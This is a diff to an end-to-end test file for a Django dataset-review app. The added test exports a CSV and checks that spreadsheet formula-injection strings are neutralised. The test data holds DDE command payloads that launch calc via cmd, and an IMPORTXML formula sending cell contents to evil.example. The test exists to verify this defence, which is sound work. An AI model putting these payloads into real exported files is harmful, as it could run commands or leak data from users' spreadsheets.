@@ -5,6 +5,8 @@ And a key that must stay where it is: it is looked for in the database, in every
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import re
 from typing import TYPE_CHECKING, Any
@@ -13,6 +15,7 @@ import pytest
 from django.apps import apps
 from django.db import connection
 
+from refinement.formats.writing.containers import plain_cell
 from refinement.method.specs import PolicySpec
 from refinement.models import Dataset, Endpoint, Project, Run, Student, User
 from refinement.services.projects import create_project
@@ -57,6 +60,20 @@ UNSEEN = (
 FORMULAS = ('=HYPERLINK("https://evil.example","x")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1-2")
 PAYLOADS = (*MARKUP, *UNSEEN, *FORMULAS)
 PAIRS = len(PAYLOADS) // 2  # each holds two
+# Whole texts that a spreadsheet would run or fetch for, by each way to begin one.
+CELLS = (
+    "=cmd|' /C calc'!A0",
+    '=IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "'=1+1",
+    "＝1+1",
+    'a","=1+1',
+)
+RUNS = "=+-@\t\r\n＝＋－＠"
 RAW = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\u202a-\u202e\u2066-\u2069]")
 
 
@@ -99,6 +116,7 @@ def write_data(folder: Path) -> Path:
         for number, (one, other) in enumerate(zip(PAYLOADS[::2], PAYLOADS[1::2], strict=True))
     ]
     lines.append(json.dumps({"instruction": "Repeat it. [[403]]", "output": "No."}))
+    lines += [json.dumps({"instruction": cell, "output": f"{cell} {cell}"}) for cell in CELLS]
     lines += [json.dumps({"instruction": payload, "output": 42}) for payload in PAYLOADS]
     path = folder / f"{MARKUP[0].replace('/', ' ')}.jsonl"
     path.write_text("\n".join(lines) + "\n", encoding="utf-8")
@@ -122,6 +140,8 @@ def test_hostile_texts_are_text_and_the_key_stays_secret(
     assert "safe⟦RLO⟧gpj.exe" in seen
     assert "␛[31mred" in seen
     exported = export(me.page, run, product)
+    keep_formulas(me, run)
+    assert cells_of(export_csv(me.page, run, product)) >= {*CELLS, *(f"{c} {c}" for c in CELLS)}
     me.page.goto(f"/projects/{project.pk}/audit")
     untouched(me)
     look_for_the_key(product, tmp_path, seen, exported)
@@ -239,6 +259,37 @@ def export(page: Page, run: Run, product: Product) -> bytes:
     fields = {name for row in rows for name in row}
     assert set(MARKUP) & fields
     return data + json.dumps(exported.manifest).encode()
+
+
+def keep_formulas(me: Visitor, run: Run) -> None:
+    """In the review room: each is read as it is, and its original kept."""
+    for row in run.run_samples.filter(position__gt=PAIRS).order_by("position"):
+        me.page.goto(f"/runs/{run.pk}/review/{row.pk}")
+        assert " ".join(row.sample.instruction.split()) in " ".join(untouched(me).split())
+        me.press("o")
+        me.page.wait_for_url(lambda url, pk=row.pk: not url.endswith(f"/review/{pk}"))
+    kept = run.run_samples.filter(position__gt=PAIRS, decisions__action="original")
+    assert kept.count() == len(CELLS)
+
+
+def export_csv(page: Page, run: Run, product: Product) -> str:
+    """The file for spreadsheets, as a browser saves it."""
+    page.goto(f"/runs/{run.pk}/exports")
+    page.locator("select[name=container]").select_option("csv")
+    page.locator("form[action$='/exports/new'] button").last.click()
+    ready = run.exports.filter(status="ready", options__container="csv")
+    product.wait_for("the export for spreadsheets", ready.exists)
+    page.goto(f"/runs/{run.pk}/exports")
+    with page.expect_download() as saving:
+        page.locator(f"#download-{ready.get().pk}").click()
+    return saving.value.path().read_bytes().decode("utf-8-sig")
+
+
+def cells_of(text: str) -> set[str]:
+    """What was in the cells of the file before it was made safe, each of which is."""
+    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
+    assert [cell for cell in cells if cell.startswith(tuple(RUNS))] == []
+    return {plain_cell(cell) for cell in cells}
 
 
 def look_for_the_key(product: Product, folder: Path, seen: str, exported: bytes) -> None:
